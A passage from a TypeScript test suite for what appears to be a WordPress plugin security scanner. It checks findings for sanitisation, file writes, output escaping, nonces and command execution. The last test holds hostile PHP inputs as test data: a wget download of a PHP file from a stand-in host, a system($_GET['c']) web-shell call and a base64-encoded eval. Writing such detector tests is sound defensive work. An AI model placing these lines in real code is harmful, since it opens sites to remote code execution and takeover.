    ["register_setting( 'tide', 'tide_x', array( 'type' => 'string' ) );", 'error'],
    ["register_setting( 'tide', 'tide_x' );", 'error'],
    ["register_setting( 'tide', 'tide_y', 'tide_clean' );", 'error'],
  ])('of an option that is saved as it came, after %s, is of severity: %s', async (setting, severity) => {
    const code = `${setting}\nfunction tide_save() { check_admin_referer( 'tide' ); update_option( 'tide_x', $_POST['x'] ); }`
    const found = await findingsIn({ 'tide-table.php': `<?php\n${code}` })
    expect(found.find(({ rule }) => rule === 'security/sanitize-input')?.severity).toBe(severity)
  })

  test.each([
    ['file_put_contents', 'error'],
    ['chmod', 'warning'],
    ['unlink', undefined],
  ])('of %s in the own folder is of severity: %s', async (called, severity) => {
    const found = await findingsIn({ 'tide-table.php': `<?php\n${called}( __DIR__ . '/a.txt', '' );` })
    expect(found.find(({ rule }) => rule === 'security/file-write')?.severity).toBe(severity)
  })

  test('of a template knows the variables and the object of the function that includes it', async () => {
    const found = await findingsIn({
      'tide-table.php': `<?php
        class Tide_Page {
          private $caption = 'Tides';
          public function show( $rows ) {
            $intro = __( 'Today', 'tide-table' );
            $note = get_option( 'tide_note' );
            include plugin_dir_path( __FILE__ ) . 'views/page.php';
          }
        }`,
      'views/page.php': '<?php\necho $this->caption, $intro;\necho $note;\necho $remark;',
    })
    const printed = found.filter(({ rule, file }) => rule === 'security/escape-output' && file !== null)
    expect(printed.map(({ file, line, severity }) => [file, line, severity])).toEqual([
      ['views/page.php', 3, 'warning'],
      ['views/page.php', 4, 'warning'],
    ])
  })

  test('of a form for everybody without a nonce is a warning, unless it changes what is there', async () => {
    const severityOf = async (change: string) => {
      const code = `add_action( 'wp_ajax_nopriv_tide', 'tide_go' );\nadd_action( 'wp_ajax_tide', 'tide_go' );\nfunction tide_go() { ${change} }`
      const found = await findingsIn({ 'tide-table.php': `<?php\n${code}` })
      return found.find(({ rule }) => rule === 'security/nonce')?.severity
    }
    expect(
      await severityOf("wp_insert_post( array( 'post_title' => sanitize_text_field( $_POST['t'] ) ) );"),
    ).toBe('warning')
    expect(await severityOf("update_option( 'tide_x', sanitize_text_field( $_POST['t'] ) );")).toBe('error')
  })

  test('of a command is an error, but none in a library of others, unless it is hostile', async () => {
    const severityIn = async (file: string, code: string, foreign = true) =>
      (await findingsIn({ [file]: `<?php\n${code}` }, 'tide-table', foreign)).map(({ severity }) => severity)
    for (const file of [
      'vendor/a/b.php',
      'src/Dependencies/a.php',
      'prefixed-vendors/a.php',
      'lib/email/class.smtp.php',
    ]) {
      expect(await severityIn(file, "shell_exec( 'stty -g' );")).toEqual([])
      expect(await severityIn(file, "shell_exec( 'stty -g' );", false)).toEqual(['warning'])
      expect(await severityIn(file, "shell_exec( 'wget -O a.php https://tide.example/a' );")).toEqual([
        'error',
      ])
      expect(await severityIn(file, "system( $_GET['c'] );")).toContain('error')
      expect(await severityIn(file, 'eval( $made );')).toEqual([])
      expect(await severityIn(file, "eval( base64_decode( 'YQ==' ) );")).toContain('error')
    }
    for (const file of ['src/a.php', 'src/class.smtp-form.php'])
      expect(await severityIn(file, "shell_exec( 'stty -g' );")).toEqual(['error'])
  })
})
